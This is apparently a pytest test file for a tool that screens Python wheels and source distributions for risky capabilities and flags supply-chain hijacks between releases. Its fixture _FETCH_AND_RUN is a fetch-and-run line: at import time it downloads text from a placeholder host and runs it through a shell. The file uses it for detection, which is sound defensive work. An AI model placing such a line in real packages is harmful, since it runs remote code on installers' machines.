"""From a distribution to its capabilities."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.capability import Kind
from pratique.finding import Phase
from pratique.history.compare import compare
from pratique.screen import screen_bytes
from pratique.verdict import Report
from tests.history.hijacks import HIJACKS, Hijack
from tests.history.releases import able, read, sdist, wheel
from tests.support.distributions import Built, make_sdist, make_wheel, make_wheel_of

_FETCH_AND_RUN = (
    "import requests, subprocess\nsubprocess.run(['sh', '-c', requests.get('https://x.example.invalid').text])\n"
)


def _seen(report: Report, kind: Kind) -> set[tuple[str, Phase]]:
    return {(one.what, one.phase) for one in able(report).items if one.kind is kind}


def test_calls_have_kind_phase_and_place() -> None:
    """What a call does, when, where and with which code: all that a person needs to look it up."""
    found = able(wheel("1.0", {"demo/__init__.py": _FETCH_AND_RUN})).items
    (one,) = [c for c in found if c.kind is Kind.PROCESS]
    assert (one.what, one.phase, one.path, one.line) == ("subprocess.run", Phase.IMPORT, "demo/__init__.py", 2)
    assert one.code.startswith("subprocess.run(")
    assert ("requests.get", Phase.IMPORT) in {(c.what, c.phase) for c in found if c.kind is Kind.NETWORK}


def test_what_a_release_brings_along() -> None:
    """Hosts, dependencies (extras apart), commands, plugins and start-up files, each by its own name."""
    report = wheel(
        "1.0",
        {
            "demo/__init__.py": "HOME = 'https://Home.example.invalid/x'\n",
            "demo.pth": "# not code\nimport demo\n",
            "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo:main\n[pytest11]\nd = demo.plugin\n",
        },
        ["Some.Thing>=2", "other; extra == 'more'"],
    )
    assert _seen(report, Kind.HOST) == {("home.example.invalid", Phase.NONE)}
    assert {what for what, _ in _seen(report, Kind.DEPENDENCY)} == {"some-thing", "other (extra)"}
    assert {what for what, _ in _seen(report, Kind.COMMAND)} == {"demo"}
    assert {what for what, _ in _seen(report, Kind.PLUGIN)} == {"pytest11: d"}
    (startup,) = [c for c in able(report).items if c.kind is Kind.STARTUP]
    assert (startup.path, startup.line, startup.code) == ("demo.pth", 2, "import demo")


def test_a_pth_file_of_paths_alone_starts_nothing() -> None:
    """Only lines that `site` executes make a start-up file of it."""
    assert not _seen(wheel("1.0", {"demo.pth": "../elsewhere\n"}), Kind.STARTUP)


def test_hooks_are_those_of_source_trees() -> None:
    """Building runs `setup.py` and in-tree back ends; a wheel is not built any more."""
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["build"]\n',
        "build/own.py": "def build_wheel(*a):\n    pass\n",
        "setup.py": "",
    }
    assert {what for what, _ in _seen(sdist("1.0", files), Kind.HOOK)} == {"setup.py", "build/own.py"}
    assert not _seen(wheel("1.0", {"setup.py": ""}), Kind.HOOK)


def test_long_lines_without_language_are_opaque() -> None:
    """Encoded data stands out by its density; a long sentence does not."""
    import base64
    import hashlib

    data = base64.b64encode(b"".join(hashlib.sha256(bytes([n])).digest() for n in range(60))).decode()
    sentence = "plain words again and again " * 80
    report = wheel("1.0", {"demo/a.py": f"D = '{data}'\n", "demo/b.py": f"S = '{sentence}'\n"})
    assert {what for what, _ in _seen(report, Kind.OPAQUE)} == {"demo/a.py"}


def test_native_code_is_known_by_its_name_without_tags() -> None:
    """The same library for the next Python, or with another build's digest, is no new one."""
    elf = b"\x7fELF" + bytes(200)
    one, other = (
        read(
            Built(
                project="demo",
                version="1.0",
                filename=f"demo-1.0-{tag}-{tag}-manylinux_2_17_x86_64.whl",
                data=make_wheel_of({f"demo/_x.{library}": elf, f"demo.libs/libz-{build}.so.1": elf}),
                metadata=b"",
            )
        )
        for tag, library, build in (
            ("cp311", "cpython-311-x86_64-linux-gnu.so", "0011aabb"),
            ("cp312", "cpython-312-x86_64-linux-gnu.so", "ccdd2233"),
        )
    )
    assert _seen(one, Kind.BINARY) == _seen(other, Kind.BINARY)
    assert len(_seen(one, Kind.BINARY)) == 2


def test_too_many_of_a_kind_are_cut_and_said() -> None:
    """What is kept is bounded, whatever a package holds, and nobody takes it for everything."""
    hosts = "".join(f"# https://h{n}.example.invalid\n" for n in range(500))
    report = wheel("1.0", {"demo/__init__.py": hosts})
    assert Kind.HOST in able(report).cut
    assert len(_seen(report, Kind.HOST)) < 500


def test_padding_does_not_push_out_what_runs_by_itself() -> None:
    """Hundreds of harmless calls leave the one that runs on import in its place."""
    padding = "".join(f"def f{n}():\n    return requests.get('https://x.example.invalid/{n}')\n" for n in range(300))
    report = wheel("1.0", {"demo/__init__.py": padding + _FETCH_AND_RUN, "demo/a.py": "import requests\n" + padding})
    assert ("requests.get", Phase.IMPORT) in _seen(report, Kind.NETWORK)


@given(st.text(max_size=300), st.text(max_size=80))
def test_whatever_is_declared_is_read(text: str, name: str) -> None:
    """Hostile metadata and entry points are left out where they cannot be read, and never break the reading."""
    files = {"demo-1.0.dist-info/entry_points.txt": text.encode("utf-8", "replace").decode(), "demo/__init__.py": ""}
    report = wheel("1.0", files, [" ".join(name.encode("utf-8", "replace").decode().split())])
    assert report.capabilities is not None


def test_the_same_bytes_give_the_same_capabilities() -> None:
    """They are kept by digest, so they may depend on nothing else."""
    files = {"demo/__init__.py": _FETCH_AND_RUN, "demo/a.py": _FETCH_AND_RUN}
    assert able(wheel("1.0", files)) == able(wheel("1.0", dict(reversed(files.items()))))


def test_a_report_without_capabilities_still_reads() -> None:
    """Reports that were kept before there were any mean: not taken."""
    from pratique.storage.documents import decode, encode

    report = replace(wheel("1.0", {"demo/__init__.py": ""}), capabilities=None)
    document = encode(report).replace(b',"capabilities":null', b"")
    assert b"capabilities" not in document
    assert decode(document, Report) == report


@pytest.mark.parametrize("hijack", HIJACKS, ids=lambda hijack: hijack.name)
def test_what_is_kept_with_a_report_is_enough_to_tell_what_is_new(hijack: Hijack) -> None:
    """The few capabilities that the gateway keeps lead to the same chains as all of them."""
    make = make_sdist if hijack.source else make_wheel
    old, new = make("parley", "1.0", hijack.before), make("parley", "1.1", {**hijack.before, **hijack.after})
    few = [able(screen_bytes(one.data, filename=one.filename)) for one in (old, new)]
    whole = [able(read(one)) for one in (old, new)]
    assert set(few[1].items) <= set(whole[1].items)
    assert len(few[1].items) < len(whole[1].items)
    assert compare(*few).chains == compare(*whole).chains
